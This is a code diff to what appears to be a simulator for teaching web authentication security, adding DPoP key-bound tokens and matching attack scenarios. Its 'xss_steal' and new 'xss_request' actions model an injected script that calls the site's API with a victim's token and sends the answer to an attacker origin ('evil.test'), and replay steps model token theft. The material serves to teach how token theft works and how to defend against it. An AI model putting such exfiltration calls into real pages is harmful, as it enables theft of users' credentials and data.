@@ -14,6 +14,7 @@ from urllib.parse import urlencode
 
 from tutor.browser.browser import Browser
 from tutor.browser.events import Exchange
+from tutor.browser.webcrypto import PageKey, dpop_proof
 from tutor.scenes.model import Step
 from tutor.scenes.step_io import Action, StepFailed, StepIO
 from tutor.scenes.step_io import response_json as _json
@@ -61,12 +62,33 @@ def _put_token(world: World, browser: Browser, key: str, value: str | None) -> N
         tokens[key] = value
 
 
-def _auth_headers(world: World, step: Step, browser: Browser, method: str) -> dict[str, str]:
-    """What the site's own script adds: the stored token, or the CSRF token on writes."""
+def _dpop(world: World) -> bool:
+    """The server binds tokens to the page's key: every request carries a DPoP proof."""
+    return world.scene.server.dpop
+
+
+def _proof(world: World, browser: Browser, method: str, url: str,
+           access_token: str | None = None) -> dict[str, str]:
+    """The `DPoP` header the site's script adds when the server wants one (RFC 9449 §4.1),
+    signed by the browser with the page's non-extractable key."""
+    if not _dpop(world):
+        return {}
+    proof = browser.script().dpop_proof(method, url, access_token)
+    world.pages[browser.name].last_dpop_proof = proof
+    return {"DPoP": proof}
+
+
+def _auth_headers(world: World, step: Step, browser: Browser, method: str,
+                  url: str) -> dict[str, str]:
+    """What the site's own script adds: the stored token (with a DPoP proof when the
+    server binds tokens to a key), or the CSRF token on writes."""
     headers: dict[str, str] = {}
     if _keeps_tokens(world):
         token = _tokens(world, browser).get("access_token")
-        if token:
+        if token and _dpop(world):
+            headers["Authorization"] = f"DPoP {token}"
+            headers.update(_proof(world, browser, method, url, token))
+        elif token:
             headers["Authorization"] = f"{_mode(world).auth_scheme} {token}"
     elif method not in ("GET", "HEAD"):
         csrf = world.pages[browser.name].csrf_token
@@ -111,7 +133,9 @@ async def login(world: World, step: Step, io: StepIO) -> None:
         body = {"username": username, "password": password}
         if audience is not None:
             body["audience"] = audience
-        result = await browser.fetch(world.url("/login"), "POST", json=body)
+        url = world.url("/login")
+        result = await browser.fetch(url, "POST", headers=_proof(world, browser, "POST", url),
+                                     json=body)
         if isinstance(result, Exchange) and result.response.status == 200:
             _keep_tokens(world, browser, _json(result))
         return
@@ -140,7 +164,7 @@ async def request(world: World, step: Step, io: StepIO) -> None:
                                       method)
         return
     await _on_site(world, browser)
-    headers = _auth_headers(world, step, browser, method) if credential == "auto" else {}
+    headers = _auth_headers(world, step, browser, method, url) if credential == "auto" else {}
     headers.update({str(k): str(v) for k, v in params.get("headers", {}).items()})
     io.primary()
     body = None
@@ -157,11 +181,12 @@ async def request(world: World, step: Step, io: StepIO) -> None:
 async def logout(world: World, step: Step, io: StepIO) -> None:
     browser = world.browser(step.actor)
     await _on_site(world, browser)
-    headers = _auth_headers(world, step, browser, "POST")
+    url = world.url("/logout")
+    headers = _auth_headers(world, step, browser, "POST", url)
     if step.params.get("csrf_token") is False:
         headers.pop("X-CSRF-Token", None)
     io.primary()
-    await browser.fetch(world.url("/logout"), "POST", headers=headers)
+    await browser.fetch(url, "POST", headers=headers)
     if _keeps_tokens(world) and step.params.get("forget_token", True):
         # The page deletes its copies; this revokes nothing on the server by itself.
         _put_token(world, browser, "access_token", None)
@@ -187,8 +212,10 @@ async def refresh(world: World, step: Step, io: StepIO) -> None:
     if not token:
         raise StepFailed("no refresh token to use: log in (and refresh once for `previous`, "
                          "or capture one for `captured`)")
+    url = world.url("/refresh")
+    headers = _proof(world, browser, "POST", url)
     io.primary()
-    result = await browser.fetch(world.url("/refresh"), "POST", json={"refresh_token": token})
+    result = await browser.fetch(url, "POST", headers=headers, json={"refresh_token": token})
     if isinstance(result, Exchange) and result.response.status == 200:
         _keep_tokens(world, browser, _json(result))
 
@@ -282,12 +309,34 @@ async def xss_steal(world: World, step: Step, io: StepIO) -> None:
             value = script.document_cookie()
         elif what in ("localStorage", "sessionStorage"):
             value = json.dumps(script.storage(what), sort_keys=True)
+        elif what == "dpop key":
+            # The script tries crypto.subtle.exportKey and gets only the refusal.
+            value = script.export_dpop_key()
         else:
-            raise StepFailed(f"a script can read document.cookie, localStorage or "
-                             f"sessionStorage, not {what!r}")
+            raise StepFailed(f"a script can read document.cookie, localStorage, "
+                             f"sessionStorage or try the dpop key, not {what!r}")
         query = urlencode({"what": what, "value": value})
         await script.fetch(f"{world.attacker_origin}/collect?{query}", "GET",
                            credentials="omit")
+
+
+async def xss_request(world: World, step: Step, io: StepIO) -> None:
+    """An injected script calls the site's API as the page's own script does (its token,
+    and with DPoP a fresh proof from the page's key), then sends the answer to evil.test."""
+    browser = world.browser(step.actor)
+    await _on_site(world, browser)
+    method = str(step.params.get("method", "GET")).upper()
+    path = step.params["path"]
+    io.user(f"an injected script in {world.site}'s page calls {method} {path} itself")
+    url = world.url(path)
+    headers = _auth_headers(world, step, browser, method, url)
+    script = browser.script()
+    io.primary()
+    result = await script.fetch(url, method, headers=headers)
+    answer = (result.response.body.decode("utf-8", "replace")[:500]
+              if isinstance(result, Exchange) else "blocked")
+    query = urlencode({"what": "api response", "value": answer})
+    await script.fetch(f"{world.attacker_origin}/collect?{query}", "GET", credentials="omit")
 
 
 async def capture(world: World, step: Step, io: StepIO) -> None:
@@ -295,6 +344,10 @@ async def capture(world: World, step: Step, io: StepIO) -> None:
     io.user(f"a copy of {step.actor}'s credentials is taken (a shared computer, a log, a proxy)")
     world.captured = {c.name: c.value for c in browser.jar.cookies()}
     world.captured.update(_tokens(world, browser))
+    proof = world.pages[browser.name].last_dpop_proof
+    if proof:
+        # A proxy or a log sees the DPoP header too; never the key that signed it.
+        world.captured["dpop_proof"] = proof
 
 
 async def set_cookie(world: World, step: Step, io: StepIO) -> None:
@@ -352,20 +405,48 @@ async def replay(world: World, step: Step, io: StepIO) -> None:
             raise StepFailed(f"the attacker has stolen no {use}: add an xss_steal step")
         token = json.loads(loot.value).get("access_token")
         if token:
-            headers["Authorization"] = f"Bearer {token}"
+            headers["Authorization"] = f"{_replay_scheme(world, step)} {token}"
     else:
         if not world.captured:
             raise StepFailed("nothing was captured: add a `capture` step first")
         if "access_token" in world.captured:
-            headers["Authorization"] = f"Bearer {world.captured['access_token']}"
+            headers["Authorization"] = (f"{_replay_scheme(world, step)} "
+                                        f"{world.captured['access_token']}")
         cookies = {k: v for k, v in world.captured.items()
-                   if k not in ("access_token", "refresh_token")}
+                   if k not in ("access_token", "refresh_token", "dpop_proof")}
         if cookies:
             headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in cookies.items())
     io.user(f"{step.actor} replays the credential with a plain HTTP client")
     method = str(step.params.get("method", "GET")).upper()
+    url = world.url(step.params["path"])
+    headers.update(_replay_proof(world, step, method, url, headers))
     io.primary()
-    await browser.send_raw(method, world.url(step.params["path"]), headers)
+    await browser.send_raw(method, url, headers)
+
+
+def _replay_scheme(world: World, step: Step) -> str:
+    """How the thief sends a stolen token: as the site's page would, unless told."""
+    default = "DPoP" if _dpop(world) else "Bearer"
+    return str(step.params.get("scheme", default))
+
+
+def _replay_proof(world: World, step: Step, method: str, url: str,
+                  headers: Mapping[str, str]) -> dict[str, str]:
+    """The thief's DPoP header: none, the victim's copied one, or one they sign with a key
+    of their own (they never hold the victim's: it cannot be exported)."""
+    how = step.params.get("dpop", "none")
+    if how == "captured":
+        proof = world.captured.get("dpop_proof")
+        if not proof and not _dpop(world):
+            return {}  # a bearer server's traffic has no DPoP header to copy
+        if not proof:
+            raise StepFailed("no DPoP proof was captured: capture after a request that "
+                             "carried one")
+        return {"DPoP": proof}
+    if how == "own_key":
+        token = headers.get("Authorization", " ").split(" ", 1)[1] or None
+        return {"DPoP": dpop_proof(PageKey(), method, url, world.clock.now(), token)}
+    return {}
 
 
 async def switch_replica(world: World, step: Step, io: StepIO) -> None:
@@ -386,8 +467,9 @@ async def change_password(world: World, step: Step, io: StepIO) -> None:
     await _on_site(world, browser)
     io.user(f"{step.actor} changes their password")
     io.primary()
+    url = world.url("/password")
     result = await browser.fetch(
-        world.url("/password"), "POST", headers=_auth_headers(world, step, browser, "POST"),
+        url, "POST", headers=_auth_headers(world, step, browser, "POST", url),
         json={"current_password": step.params.get("current", "wonderland"),
               "new_password": step.params["new"]},
     )
@@ -415,8 +497,8 @@ ACTION_RUNNERS: dict[str, Action] = {
     "visit": visit, "login": login, "request": request, "logout": logout,
     "refresh": refresh, "advance_clock": advance_clock, "tamper_token": tamper_token,
     "tamper_cookie": tamper_cookie, "cross_site_request": cross_site_request,
-    "xss_steal": xss_steal, "capture": capture, "plant_cookie": plant_cookie, "replay": replay,
-    "set_cookie": set_cookie,
+    "xss_steal": xss_steal, "xss_request": xss_request, "capture": capture,
+    "plant_cookie": plant_cookie, "replay": replay, "set_cookie": set_cookie,
     "switch_replica": switch_replica, "change_password": change_password,
     "clear_credential": clear_credential, "restart_browser": restart_browser,
     "rotate_keys": rotate_keys, "retire_key": retire_key, "guess_session_id": guess_session_id,
